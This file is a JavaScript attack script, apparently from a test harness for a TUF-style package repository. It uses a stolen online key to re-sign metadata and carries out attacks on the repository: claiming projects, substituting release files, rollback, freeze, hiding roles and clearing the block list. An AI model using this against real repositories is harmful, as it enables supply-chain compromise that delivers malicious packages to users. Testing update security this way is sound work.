// Whoever has the web host and the online keys: thief.mjs SITE KEY_FILE ATTACK [ARGUMENT...] changes the published tree and signs
// timestamp, snapshot and new again with the stolen key. Its files for others' roles are signed with the same key.
import { createHash, createPrivateKey, createPublicKey, sign } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, dirname } from 'node:path';

const [site, keyFile, attack, ...rest] = process.argv.slice(2);
const seed = Buffer.from(JSON.parse(readFileSync(keyFile, 'utf8')).seed, 'hex');
const pkcs8 = Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), seed]);
const secret = createPrivateKey({ key: pkcs8, format: 'der', type: 'pkcs8' });
const canonical = (value) => {
  if (Array.isArray(value)) return `[${value.map(canonical).join(',')}]`;
  if (value === null || typeof value !== 'object') return JSON.stringify(value);
  return `{${Object.keys(value).sort().map((key) => `${JSON.stringify(key)}:${canonical(value[key])}`).join(',')}}`;
};
const sha256 = (bytes) => createHash('sha256').update(bytes).digest('hex');
const key = { keytype: 'ed25519', scheme: 'ed25519',
  keyval: { public: createPublicKey(secret).export({ type: 'spki', format: 'der' }).subarray(-32).toString('hex') } };
const keyid = sha256(canonical(key));

const path = (name) => `${site}/metadata/${name}`;
const read = (name) => JSON.parse(readFileSync(path(name), 'utf8')).signed;
const write = (name, signed) => {
  const sig = sign(null, Buffer.from(canonical(signed)), secret).toString('hex');
  const bytes = JSON.stringify({ signatures: [{ keyid, sig }], signed });
  writeFileSync(path(name), bytes);
  return bytes;
};

const timestamp = read('timestamp.json');
const snapshot = read(`${timestamp.meta['snapshot.json'].version}.snapshot.json`);
const state = (role, version, bytes) => { snapshot.meta[`${role}.json`] = { version, hashes: { sha256: sha256(bytes) } }; };
const version = (role) => snapshot.meta[`${role}.json`].version;
const publish = (next = snapshot.version + 1) => {
  snapshot.version = next;
  snapshot.expires = timestamp.expires = '2099-01-01T00:00:00Z';
  timestamp.version = next;
  const bytes = write(`${next}.snapshot.json`, snapshot);
  timestamp.meta['snapshot.json'] = { version: next, length: bytes.length, hashes: { sha256: sha256(bytes) } };
  write('timestamp.json', timestamp);
};
const put = (role, signed) => state(role, signed.version, write(`${signed.version}.${role}.json`, signed));
// A role that states `file` as release 6.6.6 of the project.
const stating = (role, project, file, next) => {
  const bytes = readFileSync(file);
  const target = `${project}/${project}/6.6.6/${basename(file)}`;
  const served = `${site}/targets/${dirname(target)}/${sha256(bytes)}.${basename(file)}`;
  mkdirSync(dirname(served), { recursive: true });
  writeFileSync(served, bytes);
  return { _type: 'targets', spec_version: '1.0.31', version: next, expires: '2099-01-01T00:00:00Z', 'x-pg-role': role,
    'x-pg-repository': timestamp['x-pg-repository'], targets: { [target]: { length: bytes.length, hashes: { sha256: sha256(bytes) } } } };
};
const delegate = (list, name, project) => {
  list.delegations.keys[keyid] = key;
  list.delegations.roles.unshift({ name, keyids: [keyid], threshold: 1, terminating: true, paths: [`${project}/*/*/*`, `refs/${project}/*/*`] });
};

const attacks = {
  // In `new`, the project is the thief's.
  claim(project, file) {
    const list = read(`${version('new')}.new.json`);
    list.version += 1;
    list.delegations.roles = list.delegations.roles.filter((role) => role.name !== project);
    delegate(list, 'thief', project);
    put('new', list);
    put('thief', stating('thief', project, file, 1));
    publish();
  },
  // The file of a promoted project's releases is the thief's.
  replace(project, file) { put(`${project}.rel`, stating(`${project}.rel`, project, file, version(`${project}.rel`) + 1)); publish(); },
  // The administrators' list of names is the thief's.
  administer(project, file) {
    const list = read(`${version('claimed')}.claimed.json`);
    list.version += 1;
    list.delegations.roles = list.delegations.roles.filter((role) => role.name !== project);
    delegate(list, 'thief', project);
    put('claimed', list);
    put('thief', stating('thief', project, file, 1));
    publish();
  },
  // An empty list of what is blocked.
  unblock() {
    const list = read(`${version('blocked')}.blocked.json`);
    list.version += 1;
    list.delegations.roles[0].paths = [];
    put('blocked', list);
    publish();
  },
  // An older file of the administrators or of a project, as they signed it.
  older(role, old) { state(role, Number(old), readFileSync(path(`${old}.${role}.json`))); publish(); },
  hide(role) { delete snapshot.meta[`${role}.json`]; publish(); },
  forget(project) {
    const list = read(`${version('new')}.new.json`);
    list.version += 1;
    list.delegations.roles = list.delegations.roles.filter((role) => role.name !== project);
    put('new', list);
    publish();
  },
  freeze() { publish(); },
  forward() { publish(9007199254740990); },
};
attacks[attack](...rest);
